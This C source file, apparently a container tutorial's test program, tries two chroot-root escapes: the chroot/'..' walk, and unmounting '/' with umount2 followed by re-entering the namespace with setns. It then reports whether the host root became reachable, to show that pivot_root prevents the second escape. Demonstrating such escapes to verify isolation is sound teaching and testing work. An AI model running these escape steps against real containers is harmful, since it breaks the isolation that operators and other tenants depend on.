/* breakout.c — two escapes from a chroot-style root, for tutorial chapter 04
 * (examples/04-mounts; security.md row 17 "pivot_root vs chroot").
 *
 * 1. the classic chroot(2) walk: chroot into a subdirectory while the cwd
 *    stays outside it, chdir("..") as far as it goes, chroot("."). Modern
 *    kernels step back onto any mount stacked on a ".." result, so the moved
 *    root (--no-pivot: MS_MOVE onto "/") already covers the old root here.
 * 2. the one pivot_root prevents: under --no-pivot the host's root is still
 *    the root mount of the container's mount namespace, merely covered. Lazily
 *    unmount the cover (umount2("/", MNT_DETACH)) and re-enter the namespace
 *    (setns(2) resets root and cwd to the namespace's root): the host's "/".
 *    After pivot_root the old root was detached with all the host's mounts:
 *    what is left under the rootfs is only the kernel's initial rootfs (the
 *    ramfs every mount tree hangs from; pivot_root attaches the new root where
 *    the old one was), with nothing of the host mounted on it.
 *
 * Needs CAP_SYS_CHROOT and CAP_SYS_ADMIN (chroot(2), umount(2), setns(2)).
 * It only looks: it prints whether "/" is still the container's root. Mounts
 * never propagate to the host (rootfs propagation is rslave or rprivate). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>

#define PROC_SUPER_MAGIC 0x9fa0

static struct stat container_root;

static int
report (const char *how, const char *why)
{
  struct stat now;
  if (stat ("/", &now) < 0)
    {
      printf ("breakout: %s: stat / failed: %s\n", how, strerror (errno));
      return 0;
    }
  if (now.st_dev == container_root.st_dev && now.st_ino == container_root.st_ino)
    {
      printf ("breakout: %s: still inside the container%s%s%s\n", how, why ? " (" : "", why ? why : "", why ? ")" : "");
      return 0;
    }
  /* Out of the container's root: but into what? The host's root mount still
   * has the host's mounts on it (its /proc is procfs); the kernel's initial
   * rootfs, which every mount tree hangs from, has nothing mounted. */
  struct statfs fs;
  if (statfs ("/proc", &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC)
    {
      printf ("breakout: %s: escaped, / is now the host's root\n", how);
      return 1;
    }
  printf ("breakout: %s: out of the rootfs, but only into the kernel's empty initial rootfs (no host mounts)\n", how);
  return 0;
}

int
main (void)
{
  char why[128];
  if (stat ("/", &container_root) < 0)
    {
      printf ("breakout: stat / failed: %s\n", strerror (errno));
      return 2;
    }

  /* 1. the chroot walk */
  if (mkdir ("/tmp/breakout", 0700) < 0 && errno != EEXIST)
    snprintf (why, sizeof why, "mkdir: %s", strerror (errno));
  else if (chdir ("/") < 0 || chroot ("/tmp/breakout") < 0)
    snprintf (why, sizeof why, "chroot: %s", strerror (errno));
  else
    {
      for (int i = 0; i < 256; i++)
        if (chdir ("..") < 0)
          break;
      why[0] = 0;
      if (chroot (".") < 0)
        snprintf (why, sizeof why, "chroot .: %s", strerror (errno));
    }
  if (report ("chroot and \"..\"", why[0] ? why : NULL))
    return 1;

  /* 2. uncover the namespace's root mount and re-enter the namespace */
  why[0] = 0;
  int ns = open ("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (ns < 0)
    snprintf (why, sizeof why, "open /proc/self/ns/mnt: %s", strerror (errno));
  else if (chdir ("/") < 0 || umount2 ("/", MNT_DETACH) < 0)
    snprintf (why, sizeof why, "umount2: %s", strerror (errno));
  if (ns >= 0 && setns (ns, CLONE_NEWNS) < 0 && !why[0])
    snprintf (why, sizeof why, "setns: %s", strerror (errno));
  if (report ("umount2(\"/\") and setns", why[0] ? why : NULL))
    return 1;
  return 0;
}
